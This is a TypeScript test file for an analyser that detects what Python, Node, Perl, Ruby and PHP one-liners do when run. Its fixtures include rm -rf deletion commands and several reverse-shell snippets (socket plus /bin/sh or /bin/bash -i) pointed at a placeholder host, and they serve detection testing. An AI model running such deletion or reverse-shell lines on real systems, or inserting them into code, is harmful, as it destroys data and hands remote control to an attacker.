// The interpreter one-liner reader (src/facts/interpreters.ts, codeEffects) on its own: the shell
// lines, argument vectors, deletions, run-time arguments and reverse shells of Python, Node, Perl,
// Ruby and PHP snippets, each with the exact effects the snippet has when run (os.system(3) runs a
// shell line, subprocess.run([...]) an argv, shutil.rmtree deletes, a socket plus exec is a
// reverse shell). Written by hand (issue 16: Stryker's survivors in this file).
import { codeEffects, type CodeEffects } from "../src/facts/interpreters.js";

const none: CodeEffects = { shell: [], spawn: [], deletes: [], dynamic: [], reverseShell: false };
const fx = (over: Partial<CodeEffects>): CodeEffects => ({ ...none, ...over });

describe("shell lines", () => {
  it.each([
    ['import os; os.system("rm -rf /tmp/a")', "rm -rf /tmp/a"],
    ["os.popen('ls /x')", "ls /x"],
    ['os.system("rm $HOME")', "rm $HOME"],
    ['subprocess.call("rm /tmp/d", shell=True)', "rm /tmp/d"],
    ["require('child_process').execSync('rm /tmp/h')", "rm /tmp/h"],
    ['const cp = require("child_process"); cp.exec("rm /tmp/i")', "rm /tmp/i"],
    ['re.exec(s); exec("rm /tmp/j")', "rm /tmp/j"],
    ['system "rm /tmp/l"', "rm /tmp/l"],
    ['exec "rm /tmp/m"', "rm /tmp/m"],
    ['callCommand "rm /tmp/kk"', "rm /tmp/kk"],
    ['os.system ("rm /tmp/ll")', "rm /tmp/ll"],
    ['Runtime.getRuntime().exec("rm /tmp/mm")', "rm /tmp/mm"],
    ['Open3.capture2("rm /tmp/nn")', "rm /tmp/nn"],
    ['x.system("rm /tmp/oo")', "rm /tmp/oo"],
    ['foo(os.system("rm /tmp/n"), 2)', "rm /tmp/n"],
    ['os.system("rm (a)")', "rm (a)"],
    ['os.system("rm [a]"); x = 1', "rm [a]"],
    ['subprocess.run("""rm /tmp/ff""", shell=True)', "rm /tmp/ff"],
    ["subprocess.run('''rm /tmp/fg''', shell=True)", "rm /tmp/fg"],
    ['os.system("a\\"b")', 'a"b'],
    ["os.system('it\\'s')", "it's"],
    ["os.system('rm /tmp/gg\\n')", "rm /tmp/gg\n"],
    ['os.system("a\\tb")', "a\tb"],
    ['os.system("")', ""],
  ])("%s", (code, line) => {
    expect(codeEffects(code)).toEqual(fx({ shell: [line] }));
  });

  it("Perl and Ruby backticks and %x() run shell text; JavaScript template literals are data", () => {
    expect(codeEffects("print `rm /tmp/n`")).toEqual(fx({ shell: ["rm /tmp/n"] }));
    expect(codeEffects("x = %x(rm /tmp/p)")).toEqual(fx({ shell: ["rm /tmp/p"] }));
    expect(codeEffects("a = `x`; b = `y`")).toEqual(fx({ shell: ["x", "y"] }));
    for (const js of [
      "console.log(`x`)",
      "const a = `x`",
      "let a = `x`",
      "f(() => `x`)",
      "require('x'); `y`",
    ])
      expect([js, codeEffects(js)]).toEqual([js, none]);
  });

  it("a call with nothing in it runs nothing; a regex's exec is no process", () => {
    expect(codeEffects("os.system()")).toEqual(none);
    expect(codeEffects('/x/.exec("abc")')).toEqual(none);
    expect(codeEffects('pattern.exec("abc")')).toEqual(none);
    expect(codeEffects("x = 1")).toEqual(none);
    // `system` without a bracket is Perl's call only for the names that take a bare list
    expect(codeEffects('os.popen "rm /tmp/x"')).toEqual(none);
  });
});

describe("argument vectors", () => {
  it.each([
    ['subprocess.run(["rm", "-rf", "/tmp/b"])', ["rm", "-rf", "/tmp/b"]],
    ['subprocess.run(("rm", "/tmp/c"))', ["rm", "/tmp/c"]],
    ["subprocess.check_output(['ls','-l'])", ["ls", "-l"]],
    ['subprocess.run(["rm", "/tmp/qq"], check=True)', ["rm", "/tmp/qq"]],
    ['subprocess.run(["rm", "/tmp/(o)"])', ["rm", "/tmp/(o)"]],
    ['os.execvp("rm", ["rm", "-rf", "/tmp/e"])', ["rm", "-rf", "/tmp/e"]],
    ['os.execl("/bin/rm", "rm", "/tmp/f")', ["rm", "/tmp/f"]],
    ["require('child_process').spawn('rm', ['-rf', '/tmp/g'])", ["rm", "-rf", "/tmp/g"]],
    ["execFile('rm', ['/tmp/ii'])", ["rm", "/tmp/ii"]],
    ['system "rm", "-rf", "/tmp/k"', ["rm", "-rf", "/tmp/k"]],
    ["exec('rm', '/tmp/c')", ["rm", "/tmp/c"]],
    ["system('rm', '/tmp/d')", ["rm", "/tmp/d"]],
    ['Process.spawn("rm", "/tmp/e")', ["rm", "/tmp/e"]],
  ])("%s", (code, argv) => {
    expect(codeEffects(code)).toEqual(fx({ spawn: [argv] }));
  });

  it("several calls, in the order of their kinds", () => {
    expect(codeEffects('subprocess.run(["rm", "-rf", "/tmp/f"]); os.system("ls")')).toEqual(
      fx({ shell: ["ls"], spawn: [["rm", "-rf", "/tmp/f"]] }),
    );
  });
});

describe("run-time arguments", () => {
  it.each([
    ["os.system(cmd)", "os.system(cmd)"],
    ['os.system("rm ${X}")', 'os.system("rm ${X}")'],
    ['system("echo #{x}")', 'system("echo #{x}")'],
    ['subprocess.run(["rm", x])', 'subprocess.run(["rm", x])'],
    ["subprocess.run([])", "subprocess.run([])"],
    ['os.system("rm /tmp/pp" + x)', 'os.system("rm /tmp/pp" + x)'],
    ['os.system(f"rm {x}")', 'os.system(f"rm {x}")'],
    ['os.system("rm " "/tmp/h")', 'os.system("rm " "/tmp/h")'],
    ['exec(open("x").read())', 'exec(open("x").read())'],
    ["spawn rm /tmp/jj", "spawn(rm /tmp/jj)"],
    ["shutil.rmtree(p)", "shutil.rmtree(p)"],
    ['for f in glob.glob("/tmp/w*"): os.remove(f)', "os.remove(f)"],
    ["fs.rm(dir, () => {})", "fs.rm(dir)"],
  ])("%s", (code, dynamic) => {
    expect(codeEffects(code)).toEqual(fx({ dynamic: [dynamic] }));
  });

  it("a long argument is cut at 60 characters", () => {
    const arg = "x".repeat(80);
    expect(codeEffects(`os.system(${arg})`).dynamic).toEqual([`os.system(${"x".repeat(60)})`]);
  });
});

describe("deletions", () => {
  it.each([
    ['shutil.rmtree("/tmp/s")', ["/tmp/s"]],
    ['shutil.rmtree(  "/tmp/m"  )', ["/tmp/m"]],
    ["os.remove('/tmp/t'); os.unlink(\"/tmp/u\")", ["/tmp/t", "/tmp/u"]],
    ["fs.rmSync('/tmp/v', {recursive: true})", ["/tmp/v"]],
    ['shutil.rmtree(glob("/tmp/x*"))', ["/tmp/x*"]],
    ['shutil.rmtree(glob("/tmp/l*"), True)', ["/tmp/l*"]],
    ['shutil.rmtree(Path("/tmp/aa"))', ["/tmp/aa"]],
    ['unlink "/tmp/bb"', ["/tmp/bb"]],
    ['FileUtils.rm_rf("/tmp/cc")', ["/tmp/cc"]],
    ['Remove-Item "/tmp/dd"', ["/tmp/dd"]],
    ["rimraf.sync('/tmp/j')", ["/tmp/j"]],
    ['os.remove("/tmp/k", dir_fd=3)', ["/tmp/k"]],
  ])("%s", (code, deletes) => {
    expect(codeEffects(code)).toEqual(fx({ deletes }));
  });

  it("Path(…).unlink() and .rmdir() delete the literal path", () => {
    expect(codeEffects('Path("/tmp/y").unlink()').deletes).toEqual(["/tmp/y"]);
    expect(codeEffects("pathlib.Path('/tmp/z').rmdir()").deletes).toEqual(["/tmp/z"]);
    expect(codeEffects('Path("/tmp/y").exists()').deletes).toEqual([]);
  });
});

describe("reverse shells: a socket and something run", () => {
  it.each([
    'import socket,os;s=socket.socket();s.connect(("h",1));os.dup2(s.fileno(),0)',
    'import socket; s=socket.socket(); os.system("id")',
    '$s=fsockopen("h",1);exec("/bin/sh -i <&3 >&3 2>&3");',
    'use IO::Socket; $s = IO::Socket::INET->new("h:1"); exec("/bin/sh")',
    'net.connect(1, "h", () => { require("child_process").spawn("/bin/sh") })',
    'socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));open(STDIN,">&S");exec("/bin/bash -i");',
    "s = socket.create_connection(('h', 1)); x = '/bin/zsh'",
    "c = new net.Socket(); c.connect(1, 'h'); sh -i",
  ])("%s", (code) => {
    expect(codeEffects(code).reverseShell).toBe(true);
  });

  it.each([
    'import socket; s=socket.socket(); s.connect(("h",1))',
    "import socket; socket.socket(); print(1)",
    'x = "/bin/sh"',
    'os.system("sh -i")',
  ])("not %s", (code) => {
    expect(codeEffects(code).reverseShell).toBe(false);
  });
});
